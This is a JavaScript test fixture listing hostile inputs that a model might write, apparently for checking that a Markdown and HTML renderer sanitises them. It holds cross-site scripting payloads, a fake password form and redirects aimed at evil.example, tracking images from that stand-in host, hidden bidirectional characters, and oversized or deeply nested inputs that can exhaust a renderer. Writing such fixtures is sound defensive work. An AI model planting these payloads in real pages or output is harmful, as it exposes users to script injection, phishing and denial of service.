// Texts that a hostile model may write, by name. Scripts in them would set window.__pwned.

const BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c";
const PWN = "window.__pwned=1";

/** @type {Record<string, string>} */
export const HOSTILE = {
  scripts: `<script>${PWN}</script><SCRIPT SRC=//evil.example></SCRIPT><scr<script>ipt>${PWN}</script>`,
  "scripts in blocks of HTML": `<div>\n<script>${PWN}</script>\n</div>\n\n<pre>\n<script>${PWN}</script>`,
  handlers: `<img src=x onerror="${PWN}"><body onload="${PWN}"><details open ontoggle="${PWN}">`
    + `<input autofocus onfocus="${PWN}"><video><source onerror="${PWN}"></video>`,
  "javascript links": `[a](javascript:${PWN}) [b](JaVaScRiPt:${PWN}) [c](java\tscript:${PWN}) `
    + `[d](&#106;avascript:${PWN}) <javascript:${PWN}> [e]: javascript:${PWN}\n\n[e]\n\n`
    + `[f](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [g](vbscript:x) [h](blob:x)`,
  SVG: `<svg onload="${PWN}"><script>${PWN}</script><foreignObject><iframe src="javascript:${PWN}">`
    + `</iframe></foreignObject><a xlink:href="javascript:${PWN}"><text>x</text></a></svg>`,
  "images of other hosts": "![a](https://evil.example/a.png) ![b](//evil.example/b.png) "
    + '<img src="https://evil.example/c.png"> ![d](data:image/svg+xml,<svg onload=x>) '
    + "[![e](https://evil.example/e.png)](https://evil.example) ![f](http://localhost:1/f.png)",
  styles: "<style>@import 'https://evil.example/x.css'; * { display: none }</style>"
    + '<p style="position:fixed;inset:0;background:url(https://evil.example/y)">over everything</p>',
  "mutations": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${PWN}&gt;">`,
  "unclosed tags": "<b><i><u><a href='https://evil.example'><table><tr><td><select><option><textarea><!--",
  "unclosed Markdown": "**bold _it `code [link](http://x ~~~ ``` \n```js\nlet a = 1; // never closed",
  "template breakers": "</p></div></article></main></body></html><h1>Out</h1><form action=//evil.example>"
    + "<input type=password><button>Log in</button></form><base href=//evil.example>"
    + "<meta http-equiv=refresh content='0;url=//evil.example'>",
  clobbering: '<img id="content"><form id="app"><input name="nodeName"></form><a id="location" href="x">',
  formulas: `$\\href{javascript:${PWN}}{x}$ $\\url{javascript:${PWN}}$ $\\class{x}{y}$ `
    + "$\\includegraphics{https://evil.example/a.png}$ $\\style{position:fixed;inset:0}{x}$ "
    + `$$\\def\\a{\\a\\a}\\a$$ $$${"{".repeat(3000)}$$`,
  "open formulas before a long tail": `\u20ac${`\\[\n${"\n".repeat(8000)}a\n\n`.repeat(5)}${"\\".repeat(40_000)}`,
  "code that breaks out": `\`\`\`html"><script>${PWN}</script>\n</code></pre><script>${PWN}</script>\n\`\`\``,
  "directions": `${BIDI}txt.exe${BIDI}\n\n\u202eevil \`\u202ecode\` [li\u202enk](https://example.org/\u202e)\n\n`
    + "\u0000\u0007\u001b[31m\ufeff\u200b\u{e0041}\u{1f600}",
  "a line of 1 MB": "x".repeat(1_000_000),
  "a line of 1 MB of words": "word ".repeat(200_000),
  "a line of 1 MB of marks": "*_[`<$|".repeat(143_000),
  "deep quotations": `${"> ".repeat(5000)}deep\n\n${"- ".repeat(5000)}deep`,
  "deep brackets": `${"[".repeat(20_000)}x${"]".repeat(20_000)}\n\n${"*".repeat(20_000)}y`,
  "deep lists": Array.from({ length: 400 }, (_, level) => `${"  ".repeat(level)}- item`).join("\n"),
  "deep HTML": "<div>".repeat(20_000),
  "a huge table": `|${"a|".repeat(300)}\n|${"-|".repeat(300)}\n${`|${"b|".repeat(300)}\n`.repeat(100)}`,
  "many formulas": "$x^2$ ".repeat(3000),
  "many blocks of code": "```js\nlet x = 1;\n```\n".repeat(1500),
  "many lines": "line\n".repeat(50_000),
  "marks that join letters": `a${"\u0301".repeat(20_000)}`,
};
